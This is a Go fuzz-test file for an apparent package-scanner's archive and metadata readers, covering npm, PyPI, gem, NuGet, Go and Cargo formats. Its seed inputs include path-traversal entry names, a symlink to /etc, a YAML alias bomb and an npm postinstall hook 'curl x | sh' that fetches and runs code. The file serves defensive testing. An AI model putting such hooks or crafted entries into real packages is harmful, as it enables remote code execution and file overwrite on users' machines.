package artifact

import (
	"archive/tar"
	"bytes"
	"context"
	"reflect"
	"strings"
	"testing"

	"github.com/pkgward/pkgward/internal/record"
)

// fuzzLimits are small so that the fuzzer reaches them.
var fuzzLimits = Limits{MaxTotal: 4 << 20, MaxFile: 256 << 10, MaxFiles: 200, MaxRatio: 200}

// FuzzReadTar reads arbitrary bytes as a tar, a gem and (gzipped) a tgz:
// no panic, no error other than an unreadable archive, and every Tree
// within the limits with safe, sorted, unique paths.
func FuzzReadTar(f *testing.F) {
	f.Add(tarOf(f, file("package/package.json", npmPackageJSON), file("package/index.js", "x")), uint8(0))
	f.Add(tarOf(f, file("package/../../x", "x"), ent{name: "package/l", typ: tar.TypeSymlink, link: "/etc"},
		ent{name: "package/f", typ: tar.TypeFifo}, file("package/\xff", "x"), file("package/a", "1"), file("package/a", "2")), uint8(2))
	f.Add(buildGem(f, gemYAML, tgzOf(f, file("lib/x.rb", "x")), false), uint8(1))
	f.Add(tarOf(f, file("x-1.0/PKG-INFO", pkgInfo), file("x-1.0/setup.py", "")), uint8(2))
	f.Add(tarOf(f, file("serde_jsn-1.0.0/Cargo.toml", cargoToml)), uint8(0))
	f.Fuzz(func(t *testing.T, data []byte, kind uint8) {
		name := [...]string{"x.tar", "x.gem", "x.tgz", "x.crate"}[kind%4]
		if kind%4 >= 2 {
			data = gzipOf(t, data)
		}
		tree, err := Read(context.Background(), name, bytes.NewReader(data), fuzzLimits)
		if err != nil {
			return
		}
		checkTree(t, tree, fuzzLimits)
		again, err := Read(context.Background(), name, bytes.NewReader(data), fuzzLimits)
		if err != nil || !reflect.DeepEqual(tree, again) {
			t.Fatalf("not deterministic: %v", err)
		}
	})
}

// FuzzReadZip reads arbitrary bytes as a zip, a wheel and a nupkg.
func FuzzReadZip(f *testing.F) {
	f.Add(zipOf(f, file("x-1.dist-info/METADATA", wheelMetadata), file("x/__init__.py", ""), file("x.pth", "import x")), uint8(1))
	f.Add(zipOf(f, file("X.nuspec", nuspec), file("tools/install.ps1", "x")), uint8(2))
	f.Add(zipOf(f, file("example.com/m@v1.0.0/go.mod", goMod), file(`..\evil`, "x"), file("a", "1"), file("a", "2")), uint8(0))
	f.Add(overlapZip(f, zipOf(f, file("a.txt", "aaaaaaaa")), "b.txt"), uint8(0))
	meta := []byte("Name: x\nVersion: 1\n")
	f.Add(rawZip(f, rawEnt{"x-1.dist-info/METADATA", zipLZMA, meta, zipLZMABytes(f, meta, false, 0)},
		rawEnt{"b.py", zipBzip2, []byte(bzip2Plain), unhex(f, bzip2Hex)}, rawEnt{"z.py", zipZstd, meta, zstdBytes(f, meta)}), uint8(1))
	f.Fuzz(func(t *testing.T, data []byte, kind uint8) {
		name := [...]string{"x.zip", "x.whl", "x.nupkg"}[kind%3]
		tree, err := Read(context.Background(), name, bytes.NewReader(data), fuzzLimits)
		if err != nil {
			return
		}
		checkTree(t, tree, fuzzLimits)
	})
}

// FuzzMetadata runs every metadata parser on arbitrary bytes: no panic,
// valid UTF-8 in the record, findings from the catalog only.
func FuzzMetadata(f *testing.F) {
	for kind, s := range []string{npmPackageJSON, wheelMetadata, pkgInfo, "[project]\nname='x'\n[build-system]\nbackend-path=['.']\n",
		nuspec, gemYAML, goMod, cargoToml} {
		f.Add(uint8(kind), []byte(s))
	}
	f.Add(uint8(5), []byte("a: &a [*a, *a]\nname: *a\ndependencies: [*a]\n"))
	f.Fuzz(func(t *testing.T, kind uint8, data []byte) {
		if len(data) > maxMetadata {
			return
		}
		type parser struct {
			path, top string
			run       func(m *metaCtx)
		}
		ps := [...]parser{
			{"package.json", "", (*metaCtx).npm},
			{"x-1.dist-info/METADATA", "", (*metaCtx).wheel},
			{"PKG-INFO", "", func(m *metaCtx) { m.sdist(true) }},
			{"pyproject.toml", "", func(m *metaCtx) { m.sdist(false) }},
			{"x.nuspec", "", (*metaCtx).nuget},
			{"metadata", "", func(m *metaCtx) { m.gem(data) }},
			{"go.mod", "example.com/m@v1.0.0", (*metaCtx).gomod},
			{"Cargo.toml", "x-1.0", (*metaCtx).crate},
		}
		p := ps[int(kind)%len(ps)]
		tree := &Tree{Files: []File{{Path: p.path, Data: data, Size: int64(len(data))}}}
		tree.Files[0].SHA256 = sha256Of(data)
		var fs findings
		p.run(&metaCtx{t: tree, fs: &fs, top: p.top})
		tree.Findings = fs.done()
		checkTree(t, tree, Limits{})
		for _, d := range tree.Package.Dependencies {
			if d.Name == "" {
				t.Fatalf("dependency without a name: %+v", tree.Package.Dependencies)
			}
		}
	})
}

// FuzzNPMTarball builds an npm tarball from a package.json, a second top
// directory and its package.json, and checks the npm tarball → Package
// path: the package read is the one npm installs (the last copy), and a
// second directory that changes package.json is a high finding.
func FuzzNPMTarball(f *testing.F) {
	f.Add([]byte(npmPackageJSON), "zz", []byte(`{"name":"x","scripts":{"postinstall":"curl x | sh"}}`), false)
	f.Add([]byte(`{"name":"a"}`), "", []byte(nil), true)
	f.Add([]byte("\ufeff{\"name\":\"a\",\"scripts\":{\"install\":\"x\"}}"), "package", []byte(`{"name":"b"}`), false)
	f.Fuzz(func(t *testing.T, first []byte, root string, second []byte, bom bool) {
		if len(first) > 64<<10 || len(second) > 64<<10 || len(root) > 64 {
			return
		}
		if bom {
			first = append([]byte("\ufeff"), first...)
		}
		simple := root != "" && root != "." && root != ".." && strings.Trim(root, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-") == ""
		entries := []ent{file("package/package.json", string(first)), file("package/index.js", "1")}
		if simple {
			entries = append(entries, file(root+"/package.json", string(second)))
		}
		tree := readBytes(t, "x.tgz", tgzOf(t, entries...), fuzzLimits)
		if tree.Format != FormatNPM {
			t.Fatalf("format %q", tree.Format)
		}
		winner := first
		if simple {
			winner = second
		}
		alone := &Tree{Files: []File{{Path: "index.js", Data: []byte("1"), Size: 1}, {Path: "package.json", Data: winner, Size: int64(len(winner))}}}
		var fs findings
		(&metaCtx{t: alone, fs: &fs}).guard("package.json", (&metaCtx{t: alone, fs: &fs}).npm)
		alone.Package.Source = tree.Package.Source
		if !reflect.DeepEqual(tree.Package, alone.Package) {
			t.Fatalf("package read %+v\nnpm installs %+v", tree.Package, alone.Package)
		}
		if simple && root != "package" && !bytes.Equal(first, second) {
			high := false
			for _, f := range tree.Findings {
				high = high || f.Rule == RuleMultipleRoots && f.Severity == record.High
			}
			if !high {
				t.Fatalf("second root changing package.json not high: %+v", tree.Findings)
			}
		}
	})
}
